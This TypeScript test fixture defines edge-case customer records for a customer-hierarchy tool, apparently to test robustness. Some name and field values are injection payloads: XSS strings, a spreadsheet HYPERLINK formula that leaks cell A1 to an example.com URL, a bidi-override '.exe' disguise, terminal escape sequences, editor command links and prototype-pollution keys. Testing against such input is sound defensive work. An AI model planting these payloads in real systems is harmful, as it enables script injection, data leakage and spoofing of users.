import { extras, reachedBy, type CastMember } from './cast';
import { Digits } from './json';
import { channel, type Traits } from './people';
import { lalitSharma, tomSawyer, wechatCustomer182417, wechatCustomer182418 } from './published';

/** Mobile numbers of the parents that are worth asking for. */
export const odd = {
  parent: '919800000002',
  secondParent: '919800000003',
  cycle: '919800000004',
  self: '919800000005',
  merged: '919800000006',
  deleted: '919800000007',
  outsideHierarchy: '919800000008',
  inactiveHierarchy: '919800000009',
  toldParent: '919800000010',
  unlisted: '919800002033',
  tomSawyer: '917799889933',
  wechatParent: '918933445577',
} as const;

/** Mobile numbers of three customers: each is above the next, and the last above the first. */
export const CYCLE = [odd.cycle, '919800002041', '919800002042'] as const;

/** Right-to-left override: what follows is shown backwards where nobody guards against it. */
const BIDI_OVERRIDE = '\u202e';
const WECHAT = { source: 'WECHAT', accountId: 'WECHAT-CM' } as const;

/**
 * Children of the oddities' parent, by part. Each shows one thing that the documentation or its samples
 * allow, or that people write into name fields.
 */
const CHILDREN: Readonly<Record<string, Traits>> = {
  cardOnly: {
    firstName: 'Card',
    lastName: 'Only',
    identifiers: [{ type: 'cardnumber', value: '6002000900002001' }],
  },
  cuidOnly: {
    ...WECHAT,
    firstName: 'Cuid',
    lastName: 'Only',
    identifiers: [
      { type: 'cuid', value: 'cuid_900002002' },
      { type: 'unionId', value: 'unionId_900002002' },
    ],
  },
  sharedEmail1: {
    ...person('Shared', 'E-mail One', '919800002003', 'shared.inbox@example.com'),
  },
  sharedEmail2: {
    ...person('Shared', 'E-mail Two', '919800002004', 'shared.inbox@example.com'),
  },
  dateWithOffset: { ...person('Date', 'With Offset', '919800002005'), zone: '+05:30' },
  dateInUtc: { ...person('Date', 'In UTC', '919800002006'), zone: 'Z' },
  twoProfiles: { ...person('Two', 'Profiles', '919800002007'), secondProfile: true },
  // both round to the same JavaScript number
  longUserId1: { ...person('Long', 'User Id …993', '919800002008'), userId: 9007199254740993n },
  longUserId2: { ...person('Long', 'User Id …992', '919800002009'), userId: 9007199254740992n },
  numericFields: {
    ...person('Numeric', 'Fields', '919800002010'),
    fields: {
      credit_limit: new Digits('10.50'),
      balance: new Digits('12345678901234567890.10'),
      ratio: new Digits('1E-7'),
    },
    extendedFields: { visits: 42, newsletter: true, discount: new Digits('7.00') },
  },
  formula: person('=HYPERLINK("https://example.com/?x="&A1,"Click me")', '+1', '919800002011'),
  devanagari: person('आशा', 'शर्मा', '919800002012'),
  arabic: person('ليلى', 'حداد', '919800002013'),
  chinese: person('小明', '王', '919800002014'),
  emoji: person('🦊', '👩‍👩‍👧 Zoë', '919800002015'),
  bidiOverride: person(`Invoice${BIDI_OVERRIDE}gpj`, '.exe', '919800002016'),
  controlCharacters: person('Line\nbreak\tTab', '\u0000\u0007\u001b[31mRed', '919800002017'),
  noFirstName: person('', 'Onlylast', '919800002018'),
  noLastName: person('Onlyfirst', '', '919800002019'),
  noName: person('', '', '919800002020'),
  markup: person(
    '<img src=x onerror=alert(1)>',
    '[click](command:workbench.action.quit)',
    '919800002021',
  ),
  unknownField: {
    ...person('Unknown', 'Field', '919800002022'),
    extra: { loyaltyStanding: { tier: 'Gold', since: '2024-10-01', points: 1200 } },
  },
  conflictingProfile: {
    ...person('Conflicting', 'Profile', '919800002023'),
    conflictingProfileList: [
      { userId: 9007199254740995n, source: 'ECOMMERCE', conflictingField: 'email' },
    ],
  },
  oddChannels: {
    firstName: 'Odd',
    lastName: 'Channels',
    identifiers: [
      {
        type: 'cardNumber',
        value: '6002000900002024',
        seriesId: 12,
        seriesCode: 'GOLD',
        statusLabel: 'ACTIVE',
        cardExternalId: 'EXT-2024',
      },
      { type: 'mobile', value: '919800002024' },
    ],
    channels: [
      channel('mobile', '919800002024', true),
      {
        type: 'ios',
        value: 'ios-device-2024',
        primary: false,
        verified: true,
        meta: { residence: 'false', office: 'true', lastViewedDate: '2025-01-31T08:15:00Z' },
      },
      { type: 'android', value: 'android-device-2024', primary: false, verified: false },
    ],
  },
  awkwardEmail: person('Awkward', 'E-mail', '919800002025', "o'neil+a&b=c%20@example.com"),
  awkwardFields: {
    ...person('Awkward', 'Fields', '919800002026'),
    // own fields in JSON, traps for whoever copies them into a plain object
    fields: { ['__proto__']: 'polluted', constructor: 'shadowed', '': 'no key', 'a/b~c.d': 'path' },
  },
  iconsAndEscapes: {
    ...person(
      '$(star) ${HOME} {name}',
      '\u001b[31mred\u001b[0m \u001b]0;title\u0007',
      '919800002032',
    ),
    fields: {
      '<b>bold</b>': '<script>alert(1)</script>',
      link: '[click](command:workbench.action.quit "title") ![](https://example.com/pixel.png)',
      icon: '$(star) $(sync~spin)',
    },
    extendedFields: { html: '<a href="https://example.com" onclick="alert(1)">here</a>' },
  },
  longName: person('Wolfeschlegelsteinhausen'.repeat(20), 'bergerdorff', '919800002027'),
};

/** Everyone who is there to be odd, and the customers of the two published answers. */
export const oddities: readonly CastMember[] = [
  root('odd', reachedBy(odd.parent, 'Oddities', 'Parent')),
  ...Object.entries(CHILDREN).map(([key, traits]) => under(['odd'], `odd/${key}`, traits)),
  {
    ...under(['odd'], 'odd/defaultChild', person('Default', 'Child', '919800002028')),
    defaultChild: true,
  },
  {
    ...under(['odd'], 'odd/tellsParent', person('Parent', 'In Row', '919800002029')),
    tellsParent: 'inOwnRow',
  },
  {
    ...under(['odd'], 'odd/noIdentifier', {
      firstName: 'Nothing',
      lastName: 'To Ask By',
      identifiers: [],
    }),
    unlistedIdentifiers: [{ type: 'mobile', value: odd.unlisted }],
  },
  under(['odd'], 'odd/hasChildren', person('Has', 'Children', '919800002030')),
  ...extras('odd/hasChildren', 2, 2),
  {
    ...under(['odd'], 'odd/merged', reachedBy(odd.merged, 'Merged', 'Customer')),
    standing: 'merged',
  },
  {
    ...under(['odd'], 'odd/deleted', reachedBy(odd.deleted, '', '')),
    standing: 'deleted',
  },
  root('odd2', reachedBy(odd.secondParent, 'Second', 'Parent')),
  under(['odd', 'odd2'], 'twoParents', person('Two', 'Parents', '919800002031')),
  ...extras('twoParents', 1, 2),
  ...extras('odd2', 2, 1),

  under(['cycle/c'], 'cycle/a', reachedBy(odd.cycle, 'Cycle', 'A')),
  under(['cycle/a'], 'cycle/b', person('Cycle', 'B', CYCLE[1])),
  under(['cycle/b'], 'cycle/c', person('Cycle', 'C', CYCLE[2])),
  ...extras('cycle/b', 1, 2),
  under(['self'], 'self', reachedBy(odd.self, 'Own', 'Parent')),
  ...extras('self', 1, 1),
  ...extras('odd/noIdentifier', 2, 2),

  {
    ...root('outside', reachedBy(odd.outsideHierarchy, 'Outside', 'Hierarchy')),
    standing: 'outsideHierarchy',
  },
  {
    ...root('inactive', reachedBy(odd.inactiveHierarchy, 'Inactive', 'Hierarchy')),
    standing: 'inactiveHierarchy',
  },
  {
    ...root('told', reachedBy(odd.toldParent, 'Told', 'Parent')),
    tellsParent: 'besideChildren',
    warns: true,
  },
  ...extras('told', 3, 1),

  { ...root('tom', tomSawyer), roleCode: 'Senior_Manager' },
  { ...under(['tom'], 'lalit', lalitSharma), roleCode: 'Manager' },
  ...extras('lalit', 2, 7),
  root('wechat', {
    ...WECHAT,
    firstName: 'Capillary',
    lastName: 'Parent',
    identifiers: [
      { type: 'mobile', value: odd.wechatParent },
      { type: 'unionId', value: 'unionId_918933445577' },
    ],
  }),
  under(['wechat'], 'wechat/182418', wechatCustomer182418),
  under(['wechat'], 'wechat/182417', wechatCustomer182417),
];

function root(key: string, traits: Traits): CastMember {
  return { key, under: [], level: 0, traits: { secondProfile: false, ...traits } };
}

function under(parents: readonly string[], key: string, traits: Traits): CastMember {
  return { key, under: parents, level: 1, traits: { secondProfile: false, ...traits } };
}

function person(firstName: string, lastName: string, mobile: string, email?: string): Traits {
  const reached = reachedBy(mobile, firstName, lastName);
  if (email === undefined) return reached;
  return {
    ...reached,
    identifiers: [
      { type: 'email', value: email },
      { type: 'mobile', value: mobile },
    ],
  };
}
